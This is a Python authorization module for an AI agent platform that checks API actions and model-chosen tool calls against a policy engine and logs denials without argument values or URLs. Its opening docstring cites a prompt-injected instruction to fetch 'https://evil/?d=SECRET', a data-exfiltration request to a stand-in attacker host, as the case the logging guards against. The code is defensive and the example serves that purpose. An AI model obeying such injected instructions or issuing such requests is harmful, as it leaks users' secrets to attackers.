"""Authorization glue: turn an ``Authority`` and an action into a policy input, and act on the answer.

``Authorizer.authorize`` is the one call every API route, service and workcell makes before it acts;
``Authorizer.guard_tool`` is the one call every tool makes before it runs, with the arguments the model
chose. Both raise ``PolicyDenied`` (HTTP 403, CLI exit 3) with the policy's reasons, and record every
denial (``policy.denied``) through ``record``, which the application wires to the audit ledger.

What a denial records: ids (principal, run, resource), the tenant, the action or tool, the resource kind,
the names of the tool's arguments (never their values), caller-supplied provenance ids and the policy's
reasons. Never prompt text, tool argument values or URLs: a prompt-injected "fetch
https://evil/?d=SECRET" is refused without the secret reaching the ledger (RELIABILITY.md #6).
"""

from __future__ import annotations

import re
from collections.abc import Callable, Mapping
from datetime import datetime
from typing import Any

from maestro.core.authority import Authority
from maestro.core.clock import utcnow
from maestro.core.errors import PolicyDenied
from maestro.core.policy import PolicyDecision, PolicyEngine

Recorder = Callable[[str, dict[str, Any]], None]
"""``record(kind, payload)``: appends one audit entry (the lead wires it to the ledger)."""

_IDENT_RE = re.compile(r"^[A-Za-z0-9][A-Za-z0-9._:@/+|-]{0,199}$")


def policy_input(
    authority: Authority,
    action: str,
    resource: Mapping[str, Any],
    *,
    context: Mapping[str, Any] | None = None,
    now: datetime | None = None,
) -> dict[str, Any]:
    """The Rego ``input`` for one question (see the header of ``core/policies/authz.rego``).

    The principal's scopes are the *authority's* (a run may have been narrowed below its principal's).
    """
    moment = now or utcnow()
    expired = authority.expires_at is not None and moment >= authority.expires_at
    principal = authority.principal
    return {
        "principal": {
            "id": principal.id,
            "tenant": principal.tenant,
            "kind": principal.kind,
            "scopes": sorted(authority.scopes),
        },
        "authority": {"clearance": authority.clearance, "run_id": authority.run_id, "expired": expired},
        "action": action,
        "resource": dict(resource),
        "context": dict(context or {}),
    }


class Authorizer:
    """Asks the policy engine, raises ``PolicyDenied`` on a deny and records every denial.

    ``record`` receives ``("policy.denied", payload)``; if it raises, its error propagates (the action
    is refused either way, and a lost audit entry must not go unnoticed).
    """

    def __init__(
        self,
        engine: PolicyEngine,
        *,
        record: Recorder | None = None,
        clock: Callable[[], datetime] = utcnow,
    ) -> None:
        self._engine = engine
        self._record = record
        self._clock = clock

    @property
    def engine(self) -> PolicyEngine:
        return self._engine

    def check(
        self,
        authority: Authority,
        action: str,
        resource: Mapping[str, Any],
        *,
        context: Mapping[str, Any] | None = None,
    ) -> PolicyDecision:
        """The decision alone: nothing raised, nothing recorded (for previews such as ``cypher check``)."""
        return self._engine.decide(
            policy_input(authority, action, resource, context=context, now=self._clock())
        )

    def authorize(
        self,
        authority: Authority,
        action: str,
        resource: Mapping[str, Any],
        *,
        context: Mapping[str, Any] | None = None,
    ) -> None:
        """Return if the policy allows ``action`` on ``resource``; else record and raise ``PolicyDenied``.

        ``resource`` must name its ``tenant`` (and ``kind``; ``id`` when it has one) plus whatever the
        action's rules read, e.g. ``workcell`` for ``approval.decide`` or ``data_class`` and
        ``model_pii_allowed`` for ``model.call``.
        """
        decision = self.check(authority, action, resource, context=context)
        if decision.allow:
            return
        payload = _denial_payload(authority, decision, action=action, resource=resource)
        self._deny(payload, decision, subject=f"action {action!r}", authority=authority)

    def guard_tool(
        self,
        authority: Authority,
        tool: str,
        args: Mapping[str, Any],
        *,
        context: Mapping[str, Any] | None = None,
        provenance: Mapping[str, Any] | None = None,
    ) -> None:
        """Return if the tool call may run with these arguments; else record and raise ``PolicyDenied``.

        ``context`` carries per-tenant facts the tool rules read (``repos_allowed``, ``default_branch``,
        ``hosts_allowed``); ``provenance`` names where the request came from (e.g. ``{"chunk_id": ...,
        "source": ...}`` for a RAG chunk) and is recorded with a denial (ids only; other values dropped).
        """
        resource = {"kind": "tool", "tenant": authority.tenant, "tool": tool, "args": dict(args)}
        decision = self.check(authority, "tool.call", resource, context=context)
        if decision.allow:
            return
        payload = _denial_payload(authority, decision, action="tool.call", resource=resource)
        payload["tool"] = _ident(tool)
        payload["arg_names"] = sorted(name for name in (_ident(key) for key in args) if name is not None)
        if provenance:
            payload["provenance"] = {
                key: value
                for key, value in ((_ident(k), _ident(v)) for k, v in provenance.items())
                if key and value
            }
        self._deny(
            payload, decision, subject=f"tool {_ident(tool) or '<invalid name>'!r}", authority=authority
        )

    def _deny(
        self, payload: dict[str, Any], decision: PolicyDecision, *, subject: str, authority: Authority
    ) -> None:
        if self._record is not None:
            self._record("policy.denied", payload)
        raise PolicyDenied(
            f"policy denied {subject} for principal '{authority.principal.qualified_name}': "
            + "; ".join(decision.reasons),
            reasons=list(decision.reasons),
            action=payload["action"],
        )


def _denial_payload(
    authority: Authority, decision: PolicyDecision, *, action: str, resource: Mapping[str, Any]
) -> dict[str, Any]:
    """The audit entry of one denial: ids, tenant, action, resource kind, reasons. No free text."""
    return {
        "principal_id": authority.principal.id,
        "principal_kind": authority.principal.kind,
        "tenant": authority.tenant,
        "run_id": authority.run_id,
        "action": _ident(action),
        "resource_kind": _ident(resource.get("kind")),
        "resource_tenant": _ident(resource.get("tenant")),
        "resource_id": _ident(resource.get("id")),
        "reasons": list(decision.reasons),
        "engine": decision.engine,
        "bundle_version": decision.bundle_version,
    }


def _ident(value: object) -> str | None:
    """``value`` if it looks like an identifier (no spaces, at most 200 characters), else ``None``."""
    if isinstance(value, str) and _IDENT_RE.fullmatch(value):
        return value
    return None
